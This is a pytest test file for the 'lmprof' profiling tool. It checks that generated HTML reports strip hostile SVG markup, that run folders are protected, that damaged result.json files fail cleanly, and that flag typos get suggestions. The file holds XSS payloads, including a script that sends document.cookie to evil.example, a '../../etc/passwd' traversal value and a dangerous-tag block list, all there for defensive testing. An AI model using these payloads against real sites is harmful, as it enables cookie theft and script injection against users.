"""Hostile folders and mistakes: safe reports, folders that belong to one run, damaged result.json, flag typos."""

from __future__ import annotations

import json
import re
import shutil
from html.parser import HTMLParser
from pathlib import Path

import pytest

from lmprof.cli import main
from lmprof.record.result import RunResult
from lmprof.views.files import folder_report

# --- reports never run a folder's markup ------------------------------------------------

# Each class of payload the review found, and variants: what a received run folder's flow.svg may hold.
HOSTILE_SVGS = {
    "event handler": '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><text>x</text></svg>',
    "event handler, upper case": '<svg xmlns="http://www.w3.org/2000/svg"><g ONMOUSEOVER="alert(1)"/></svg>',
    "trailing HTML element": '<svg xmlns="http://www.w3.org/2000/svg"></svg><img src=x onerror="alert(1)">',
    "script the regex reassembles": '<svg><scr<script></script>ipt>alert(1)</scr<script></script>ipt></svg>',
    "script": '<svg><script>fetch("https://evil.example/"+document.cookie)</script></svg>',
    "javascript: link": '<svg xmlns:xlink="http://www.w3.org/1999/xlink"><a href="javascript:alert(2)">'
                        '<text>x</text></a><a xlink:href=" JavaScript:alert(3)"><text>y</text></a></svg>',
    "iframe srcdoc": '<svg><foreignObject><iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'
                     '</foreignObject></svg>',
    "external href": '<svg><image href="https://evil.example/track.png"/><use href="//evil.example/x.svg#a"/></svg>',
    "external style": '<svg><style>@import url("https://evil.example/x.css");</style></svg>',
    "not an svg at all": '<html><body onload="alert(1)"><script>alert(1)</script></body></html>',
    "animation that sets a handler": '<svg><set attributeName="onmouseover" to="alert(1)"/>'
                                     '<animate attributeName="href" values="javascript:alert(1)"/></svg>',
    "a fetch in a style attribute": '<svg><rect style="fill:url(https://evil.example/x)" width="5"/>'
                                    '<rect fill="url(#nowhere)" width="5"/></svg>',
    "an entity": '<!DOCTYPE svg [<!ENTITY x "&#60;script&#62;alert(1)&#60;/script&#62;">]><svg><text>&x;</text></svg>',
}
DANGEROUS_TAGS = {"script", "iframe", "object", "embed", "foreignobject", "link", "base", "form", "frame",
                  "set", "animate", "image"}  # <style>: its text is checked for fetches


class PageAudit(HTMLParser):
    """Everything in a page that could run script or fetch from the network."""

    def __init__(self) -> None:
        super().__init__()
        self.problems: list[str] = []
        self.images: list[str] = []
        self._in_style = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._in_style = tag == "style"
        if tag in DANGEROUS_TAGS:
            self.problems.append(f"<{tag}>")
        if tag == "meta" and any(name == "http-equiv" for name, _ in attrs):
            self.problems.append("<meta http-equiv>")
        for name, value in attrs:
            plain = "".join((value or "").split()).lower()
            if name.startswith("on"):
                self.problems.append(f"{name}= on <{tag}>")
            if plain.startswith(("javascript:", "vbscript:")):
                self.problems.append(f"{name}={value!r}")
            if name in ("src", "href", "xlink:href", "action", "formaction", "srcset", "poster", "background"):
                if tag == "img" and name == "src":
                    self.images.append(plain)
                if not plain.startswith(("data:image/", "#")):
                    self.problems.append(f"{name}={value!r} on <{tag}>")
            if name == "style" and (re.search(r"url\((?!#)", plain) or "@import" in plain):
                self.problems.append(f"style={value!r}")

    def handle_data(self, data: str) -> None:
        if self._in_style and ("@import" in data or re.search(r"url\((?!#)", data)):
            self.problems.append("a fetch in the page's CSS")

    def handle_endtag(self, tag: str) -> None:
        self._in_style = False


def audit(html: str) -> PageAudit:
    page = PageAudit()
    page.feed(html)
    return page


def audit_ready(payload: str) -> str:
    """What the old report inlined: the file with <script> and <metadata> elements cut out by a regex."""
    return re.sub(r"<(metadata|script)\b.*?</\1>", "", payload, flags=re.S | re.I)


def test_the_audit_catches_each_kind_of_problem() -> None:
    """The audit below can fail: each payload inlined raw, and as the old report inlined it, is caught."""
    for name, payload in HOSTILE_SVGS.items():
        if name == "an entity":
            continue  # harmless raw in HTML; aimed at a sanitizer that parses XML and expands it after checking
        if name != "script the regex reassembles":  # aimed at the regex: only its output holds a <script>
            assert audit(payload).problems, name
        if name != "script":  # the old regex did cut a plain <script> element
            assert audit(audit_ready(payload)).problems, name
    assert not audit('<img src="data:image/svg+xml;base64,PHN2Zz4=" alt="x">').problems


@pytest.fixture(scope="module")
def hostile_folder(tmp_path_factory: pytest.TempPathFactory, instrumented_run: Path) -> Path:
    """The shared tiny run, copied, with payloads in the strings result.json carries too."""
    folder = tmp_path_factory.mktemp("hostile") / "run"
    shutil.copytree(instrumented_run, folder)
    doc = json.loads((folder / "result.json").read_text())
    script = '<script>alert("result.json")</script><img src=x onerror=alert(1)>'
    doc["metrics"]["message"] = script
    doc["environment"]["host"] = f'"><svg onload=alert(1)>{script}'
    doc["phases"][0]["label"] = script
    doc["ops"]["rows"][0]["name"] = f"aten::{script}"
    doc["lines"]["functions"][0]["lines"][0]["source"] = f"# {script}"
    doc["config"]["data"] = 'javascript:alert(1)" onmouseover="alert(2)'
    (folder / "result.json").write_text(json.dumps(doc))
    return folder


@pytest.mark.parametrize("payload", list(HOSTILE_SVGS), ids=lambda name: name.replace(" ", "-"))
def test_no_hostile_svg_reaches_the_report(hostile_folder: Path, tmp_path: Path, payload: str) -> None:
    folder = tmp_path / "run"
    shutil.copytree(hostile_folder, folder)
    (folder / "flow.svg").write_text(HOSTILE_SVGS[payload])
    (folder / "bptt.png").write_text(HOSTILE_SVGS[payload])  # a "picture" that is markup
    assert main(["report", str(folder)]) == 0
    html = (folder / "report.html").read_text()
    page = audit(html)
    assert page.problems == []
    assert 'data-source="flow"' in html and 'data-source="bptt"' in html  # both figures are on the page
    assert "<script" not in html.lower()  # result.json's strings are shown as text, escaped


def test_sweep_plots_from_the_folder_are_images(tmp_path: Path) -> None:
    from lmprof.views.html import figure_html

    (tmp_path / "val_ppl.svg").write_text(HOSTILE_SVGS["event handler"])
    html = figure_html(tmp_path, "val_ppl")
    assert html.startswith('<svg role="img"') and audit(html).problems == []


# --- a run folder belongs to one run ------------------------------------------------------

def test_out_onto_a_run_refuses_and_force_replaces_only_lmprofs_files(tiny_args: list[str], tmp_path: Path,
                                                                      capsys: pytest.CaptureFixture[str]) -> None:
    run = tmp_path / "run"
    assert main(["train", *tiny_args]) == 0
    (run / "flow.svg").write_text("<svg>an older run's chart</svg>")
    (run / "notes.txt").write_text("the student's own notes")
    before = (run / "result.json").read_text()
    capsys.readouterr()
    assert main(["train", *tiny_args, "--model", "GRU"]) == 2
    err = capsys.readouterr().err.strip()
    assert err.startswith("lmprof train: error: --out") and "--force" in err and len(err.splitlines()) == 1
    assert (run / "result.json").read_text() == before  # nothing touched
    assert main(["train", *tiny_args, "--model", "GRU", "--force"]) == 0
    assert RunResult.load(run).config["model"] == "GRU"
    assert not (run / "flow.svg").exists() and (run / "notes.txt").read_text() == "the student's own notes"


def test_out_through_a_symlink_is_refused(tmp_path: Path) -> None:
    from lmprof.errors import UsageError
    from lmprof.runner import prepare_run_dir

    (tmp_path / "real").mkdir()
    (tmp_path / "link").symlink_to(tmp_path / "real")
    with pytest.raises(UsageError, match="symbolic link"):
        prepare_run_dir(tmp_path / "link")
    assert prepare_run_dir(tmp_path / "new") == tmp_path / "new"  # an absent folder is made
    assert prepare_run_dir(tmp_path / "real") == tmp_path / "real"  # an empty one is used


def test_trace_into_adds_only_the_trace(instrumented_run: Path, tmp_path: Path) -> None:
    folder = tmp_path / "run"
    shutil.copytree(instrumented_run, folder)
    old = RunResult.load(folder)
    old.ops, old.files = {}, {k: v for k, v in old.files.items() if not k.startswith("trace")}
    old.save(folder)
    shutil.rmtree(folder / "trace")
    html = folder_report(folder)
    assert f"<code>lmprof trace --into {folder}</code> fills it" in html  # the hint, as it will be run
    assert main(["trace", "--into", str(folder), "--wait", "1", "--warmup", "1", "--active", "1"]) == 0
    new = RunResult.load(folder)
    assert new.command == "profile" and new.lines == old.lines and new.phases == old.phases
    assert new.metrics == old.metrics and new.config == old.config
    assert new.ops["rows"] and new.ops["steps"] == 1
    assert (folder / new.files["trace"]).is_file()
    assert sorted(p.name for p in folder.iterdir() if p.name.startswith(".")) == []  # no scratch left


# --- a damaged result.json is one clear line --------------------------------------------

def _set(path: str, value: object) -> object:
    def change(doc: dict) -> None:
        *parents, last = path.split(".")
        target: object = doc
        for key in parents:
            target = target[int(key)] if isinstance(target, list) else target[key]  # type: ignore[index]
        if isinstance(target, list):
            target[int(last)] = value
        else:
            target[last] = value  # type: ignore[index]
    return change


DAMAGE = {  # what the review tried; field named in the message
    "null config": (_set("config", None), "config"),
    "null metrics": (_set("metrics", None), "metrics"),
    "a list where a dict belongs": (_set("lines", []), "lines"),
    "a dict where a list belongs": (_set("phases", {}), "phases"),
    "a string number": (_set("phases.0.seconds", "0.5"), "phases[0].seconds"),
    "an empty phase row": (_set("phases.0", {}), "phases[0]"),
    "an empty op row": (_set("ops.rows.0", {}), "ops.rows[0]"),
    "an unknown unit": (_set("lines.unit", "parsec"), "lines.unit"),
    "a boolean count": (_set("phases.0.calls", True), "phases[0].calls"),
    "a file outside the folder": (_set("files.lines", "../../etc/passwd"), "files.lines"),
}


@pytest.fixture
def damaged(instrumented_run: Path, tmp_path: Path) -> Path:
    folder = tmp_path / "bad"
    folder.mkdir()
    shutil.copy(instrumented_run / "result.json", folder / "result.json")
    return folder


def _one_line_error(argv: list[str], capsys: pytest.CaptureFixture[str]) -> str:
    capsys.readouterr()
    assert main(argv) == 2
    err = capsys.readouterr().err.strip()
    assert len(err.splitlines()) == 1 and "Traceback" not in err, err
    return err


@pytest.mark.parametrize("name", list(DAMAGE), ids=lambda name: name.replace(" ", "-"))
def test_wrong_shape_is_one_line_naming_file_and_field(damaged: Path, name: str,
                                                       capsys: pytest.CaptureFixture[str]) -> None:
    change, field = DAMAGE[name]
    doc = json.loads((damaged / "result.json").read_text())
    change(doc)
    (damaged / "result.json").write_text(json.dumps(doc))
    for argv in (["show", str(damaged)], ["report", str(damaged)], ["diagram", "flow", "--from", str(damaged)]):
        err = _one_line_error(argv, capsys)
        assert str(damaged / "result.json") in err and field in err, err


@pytest.mark.parametrize("text, what", [
    ('{"config": {}, "phases": [{"name": "forward", "calls": 1, "seconds": 1e999}]}', "finite"),
    ('{"config": {}, "metrics": ' + "[" * 100_000 + "]" * 100_000 + "}", "nested"),
    ('{"config": {}, "schema_version": 1' + "0" * 5000 + "}", "valid result.json"),
])
def test_unreadable_numbers_and_nesting_are_one_line(damaged: Path, text: str, what: str,
                                                     capsys: pytest.CaptureFixture[str]) -> None:
    (damaged / "result.json").write_text(text)
    assert what in _one_line_error(["show", str(damaged)], capsys)


def test_every_section_other_modules_write_still_loads(instrumented_run: Path, tmp_path: Path) -> None:
    doc = json.loads((instrumented_run / "result.json").read_text())
    doc["memory"] = {"saved_activation_bytes": 1024, "rows": [{"name": "x", "bytes": 3}]}
    doc["components"] = {"forward": [{"component": "encoder", "seconds": 0.1}]}
    doc["phases"][0]["samples"] = [0.1, 0.2, None]
    doc["a_future_section"] = {"anything": [1, "two"]}
    (tmp_path / "result.json").write_text(json.dumps(doc))
    assert RunResult.load(tmp_path).memory["saved_activation_bytes"] == 1024


# --- command-line mistakes ------------------------------------------------------------------

@pytest.mark.parametrize("argv, usage, hint", [
    (["train", "--batch-size", "10"], "usage: lmprof train", "did you mean --batch_size?"),
    (["diagram", "bptt", "--batch-size", "2"], "usage: lmprof diagram bptt", "did you mean --batch_size?"),
    (["profile", "--max_batches", "3"], "usage: lmprof profile", "did you mean --max-batches?"),
    (["diagram", "bptt", "--model", "lstm"], "usage: lmprof diagram bptt", "did you mean LSTM?"),
    (["show", "x", "--unit", "msec"], "usage: lmprof show", "did you mean ms?"),
])
def test_flag_typos_get_the_subcommands_usage_and_a_suggestion(argv: list[str], usage: str, hint: str,
                                                              capsys: pytest.CaptureFixture[str]) -> None:
    assert main(argv) == 2
    err = capsys.readouterr().err
    assert err.startswith(usage) and hint in err, err


@pytest.mark.parametrize("argv, hint", [
    (["train", "--model", "lstm"], "did you mean LSTM?"),
    (["explain", "batchfy"], "did you mean batchify?"),
    (["profile", "--fn", "evalute"], "did you mean evaluate?"),
])
def test_value_typos_suggest_the_closest(argv: list[str], hint: str, capsys: pytest.CaptureFixture[str]) -> None:
    assert hint in _one_line_error(argv, capsys)


def test_batch_size_is_spelled_one_way_everywhere() -> None:
    import argparse

    from lmprof.cli import build_parser

    spellings: set[str] = set()

    def walk(parser: argparse.ArgumentParser) -> None:
        for action in parser._actions:
            spellings.update(s for s in action.option_strings if "batch" in s and "size" in s)
            if isinstance(action, argparse._SubParsersAction):
                for sub in action.choices.values():
                    walk(sub)

    walk(build_parser())
    assert spellings == {"--batch_size"}
